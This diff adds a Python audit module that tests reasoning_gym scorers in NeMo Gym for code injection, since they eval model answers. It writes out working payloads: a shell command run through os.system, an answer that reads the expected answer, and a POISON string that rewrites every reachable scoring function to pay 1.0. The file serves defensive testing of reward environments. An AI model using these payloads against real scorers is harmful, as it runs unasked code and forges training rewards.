@@ -1,0 +1,70 @@
+"""reasoning_gym (NeMo Gym's rows: ``question``, ``answer``, ``metadata.source_dataset``): several of the
+package's scorers hand the answer to ``eval`` or SymPy's ``parse_expr``, so an answer can be a program.
+These answers try to run code, to read the expected answer, and to rewrite the scorer for everyone after."""
+
+from __future__ import annotations
+
+import json
+from functools import cache
+from pathlib import Path
+from typing import Any
+
+from gym_bridge.audit.attacks import Attack, AuditOptions, answer, marker_path
+
+__all__ = ["attacks"]
+
+ROWS = Path(__file__).with_name("reasoning_gym_rows.jsonl")
+"""One generated row per family (reasoning-gym 0.1.19, seed 7)."""
+EVAL_FAMILIES = ("spiral_matrix", "string_insertion", "binary_matrix", "n_queens")
+PARSE_EXPR_FAMILIES = ("countdown", "puzzle24", "polynomial_multiplication", "simple_integration",
+                       "intermediate_integration")  # fmt: skip
+
+POISON = (
+    "[setattr(m, n, lambda *a, **k: 1.0) for m in list(__import__('sys').modules.values())"
+    " if str(getattr(m, '__name__', '')).startswith(('resources_servers', 'reasoning_gym', 'gym_bridge'))"
+    " for n in list(vars(m)) if 'scor' in n.lower() and callable(vars(m)[n])]"
+    " and [setattr(v[0] if isinstance(v, tuple) else v, 'score_answer', lambda *a, **k: 1.0)"
+    " for v in __import__('reasoning_gym.factory', fromlist=['DATASETS']).DATASETS.values()] and []"
+)
+"""Make every scoring function the server can reach pay 1.0, from inside the scorer's ``eval``."""
+
+
+@cache
+def rows() -> dict[str, dict[str, Any]]:
+    with ROWS.open() as f:
+        return {r["metadata"]["source_dataset"]: r for r in map(json.loads, f)}
+
+
+def _tagged(text: str) -> list[list[dict[str, Any]]]:
+    return [answer(f"<answer>{text}</answer>")]
+
+
+def attacks(options: AuditOptions) -> list[Attack]:
+    by_family = rows()
+    plain = by_family["basic_arithmetic"]
+    banana = Attack("wrong_after", "escape/leak", "a wrong answer after the attack", plain, _tagged("banana"))
+    found = [
+        Attack("control", "wrong-reward", "the honest answer", plain, _tagged(plain["answer"]), max_reward=1.0,
+               control=True),
+        Attack("spiral_matrix_control", "wrong-reward", "the honest answer to an eval-scored family",
+               by_family["spiral_matrix"], _tagged(by_family["spiral_matrix"]["answer"]), max_reward=1.0, control=True),
+        Attack("read_expected_answer", "escape/leak", "an answer that evaluates to the expected one",
+               by_family["spiral_matrix"], _tagged("entry['answer'].split()")),
+    ]  # fmt: skip
+    for family in EVAL_FAMILIES + PARSE_EXPR_FAMILIES:
+        if family not in by_family:
+            continue
+        marker = marker_path(family)
+        found.append(
+            Attack(f"run_code_{family}", "escape/leak", f"run a shell command from the {family} scorer",
+                   by_family[family], _tagged(f"__import__('os').system('touch {marker}') or []"), markers=(marker,))
+        )  # fmt: skip
+    found.append(
+        Attack("rewrite_the_scorer", "escape/leak", "replace every scorer in the server with one paying 1.0",
+               by_family["spiral_matrix"], _tagged(POISON), then=banana)
+    )  # fmt: skip
+    found.append(
+        Attack("rewrite_via_parse_expr", "escape/leak", "the same through SymPy's parse_expr",
+               by_family["countdown"], _tagged(POISON.replace(" and []", " and 0")), then=banana)
+    )  # fmt: skip
+    return found
